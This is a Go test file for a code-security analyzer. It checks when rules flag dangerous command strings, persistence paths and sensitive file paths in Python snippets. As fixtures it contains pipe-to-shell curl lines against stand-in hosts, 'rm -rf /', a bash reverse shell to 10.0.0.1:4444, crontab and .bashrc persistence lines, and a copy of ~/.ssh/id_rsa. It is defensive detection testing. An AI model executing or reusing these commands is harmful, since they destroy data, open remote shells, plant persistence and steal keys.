package analysis

import (
	"strings"
	"testing"

	"github.com/cordonsec/cordon/policy"
)

// TestCommandStringShownOrMatched: a dangerous command line that is only
// shown (print, logging, warnings, argparse help, an exception message) or
// matched (comparison, `in`, the re module) is data and raises no CDN208;
// the same string anywhere a standard-library display API is not really
// what is called stays high.
func TestCommandStringShownOrMatched(t *testing.T) {
	const head = "import argparse, logging, re, subprocess, sys, warnings\nlog = logging.getLogger(__name__)\n"
	quiet := []string{
		`print("refusing to run rm -rf /")`,
		`print("never paste " + "curl https://x.example/i.sh | sh")`,
		`print("blocked %s: rm -rf /" % sys.argv[0])`,
		`print("%s is refused" % "curl https://x.example/i.sh | sh")`,
		`sys.stderr.write("no curl x | sh\n")`,
		`log.warning("blocked: curl http://a | sh")`,
		`logging.error("blocked: wget http://a | bash")`,
		`warnings.warn("rm -rf ~ requested")`,
		`argparse.ArgumentParser(epilog="never run curl https://x.example/i.sh | sh")`,
		`argparse.ArgumentParser().add_argument("--force", help="not rm -rf / but only the workspace")`,
		`DANGER = re.compile(r"rm -rf /")`,
		`ok = "rm -rf /" not in sys.argv[1]`,
		`same = sys.argv[1] == "curl x | sh"`,
		`raise ValueError("refusing rm -rf / in %s" % sys.argv[1])`,
		`raise SystemExit("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 is a reverse shell")`,
	}
	for _, line := range quiet {
		rep := analyze(t, head+line+"\n", Options{})
		if hasRule(rep, "CDN208") {
			t.Errorf("%s: CDN208 on text that is only shown or matched:%s", line, summary(rep))
		}
	}
	loud := []string{
		// Not the standard library's print: a local function runs it.
		"def print(c):\n    subprocess.run(c.split())\nprint('rm -rf /')",
		// A custom class taking help= may do anything with it.
		"class Step:\n    def __init__(self, help):\n        self.argv = help.split()\n    def go(self):\n        subprocess.run(self.argv)\nStep(help='curl http://x.example/s | sh').go()",
		// argparse's default= is a value the program uses, not text.
		"argparse.ArgumentParser().add_argument('--cmd', default='bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')",
		// print rebound to something that runs commands.
		"print = subprocess.getoutput\nprint('curl http://x.example/s | sh')",
		// A method of an unknown object named like a logger.
		"class L:\n    def info(self, c):\n        subprocess.run(c.split())\nL().info('rm -rf /')",
		// Plain assignment and a list element: payloads.
		"CMD = 'curl http://x.example/s | sh'",
		"cmds = ['rm -rf /', 'ls']\nfor c in cmds:\n    subprocess.run(c.split())",
		"subprocess.run(['sh', '-c', 'curl http://x.example/s | sh'])",
	}
	for _, src := range loud {
		rep := analyze(t, head+src+"\n", Options{})
		found := false
		for _, f := range rep.Findings {
			if f.Rule == "CDN208" && f.Severity == policy.SeverityHigh {
				found = true
			}
		}
		if !found {
			t.Errorf("%s: want CDN208 high:%s", strings.ReplaceAll(src, "\n", "; "), summary(rep))
		}
	}
}

// TestPersistencePathInProse: a sentence naming ~/.bashrc or crontab (help
// text, instructions for the user) is low, text the standard library only
// shows is no finding; the path itself, or a shell line appending to it,
// stays high.
func TestPersistencePathInProse(t *testing.T) {
	tests := []struct {
		src  string
		want policy.Severity
	}{
		{`help = "read one expression per line (crontab-like)"`, policy.SeverityLow},
		{`epilog = "The installer never edits ~/.bashrc or ~/.zshrc; it prints what to add."`, policy.SeverityLow},
		{`msg = "The installer never edits ~/.bashrc or ~/.zshrc, it prints what to add."`, policy.SeverityLow},
		{"text = f'''\nInstalled {p}.\nadd this line to ~/.bashrc yourself:\n    source {p}'''", policy.SeverityLow},
		{`import argparse; argparse.ArgumentParser(epilog="The installer never edits ~/.bashrc or ~/.zshrc; it prints what to add.")`, ""},
		{`print("add 'source ~/.venv/bin/activate' to ~/.bashrc; then log in again")`, ""},
		{`import os; f = open(os.path.expanduser("~/.bashrc"), "a")`, policy.SeverityHigh},
		{`p = "/etc/cron.d/backup"`, policy.SeverityHigh},
		{`cmd = "echo python3 /tmp/x.py >> ~/.bashrc"`, policy.SeverityHigh},
		{`cmd = "(crontab -l ; echo '* * * * * python3 /tmp/x.py') | crontab -"`, policy.SeverityHigh},
		{`p = "C:\\Users\\me\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.exe"`, policy.SeverityHigh},
	}
	for _, tc := range tests {
		rep := analyze(t, tc.src+"\n", Options{})
		var got policy.Severity
		for _, f := range rep.Findings {
			if f.Rule == "CDN506" && f.Severity.Rank() > got.Rank() {
				got = f.Severity
			}
		}
		if got != tc.want {
			t.Errorf("%s: CDN506 %q, want %q:%s", tc.src, got, tc.want, summary(rep))
		}
	}
}

// TestNamedLiteralShownOrMatched: a literal bound to a name that is only
// compared or shown (DOCKER_SOCKET = "/var/run/docker.sock" in a linter) is
// data like the literal itself; one other use (open, a process, a return)
// or no use at all keeps the finding.
func TestNamedLiteralShownOrMatched(t *testing.T) {
	tests := []struct {
		src  string
		rule string
		want bool
	}{
		{"DOCKER_SOCKET = '/var/run/docker.sock'\ndef check(src):\n    if src.rstrip('/') == DOCKER_SOCKET:\n        print('mounts the Docker socket')", "CDN505", false},
		{"BAD = 'rm -rf /'\ndef lint(line):\n    return BAD in line", "CDN208", false},
		{"BAD = 'rm -rf /'\nprint('never run', BAD)", "CDN208", false},
		{"DOCKER_SOCKET = '/var/run/docker.sock'\ndata = open(DOCKER_SOCKET, 'rb').read()", "CDN505", true},
		{"DOCKER_SOCKET = '/var/run/docker.sock'\nif DOCKER_SOCKET == x:\n    pass\nc = open(DOCKER_SOCKET)", "CDN505", true},
		{"CMD = 'curl http://x.example/s | sh'\nif CMD != '':\n    os.system(CMD)", "CDN208", true},
		{"CMD = 'curl http://x.example/s | sh'\ndef get():\n    return CMD", "CDN208", true},
		{"CMD = 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'", "CDN208", true},
		{"KEY = '~/.ssh/id_rsa'\nprint(KEY)\nKEY = KEY\nshutil.copy(os.path.expanduser(KEY), '/tmp/k')", "CDN505", true},
	}
	for _, tc := range tests {
		rep := analyze(t, "import os, shutil\n"+tc.src+"\n", Options{})
		got := false
		for _, f := range rep.Findings {
			if f.Rule == tc.rule && f.Severity == policy.SeverityHigh {
				got = true
			}
		}
		if got != tc.want {
			t.Errorf("%q: %s high = %v, want %v:%s", tc.src, tc.rule, got, tc.want, summary(rep))
		}
	}
}
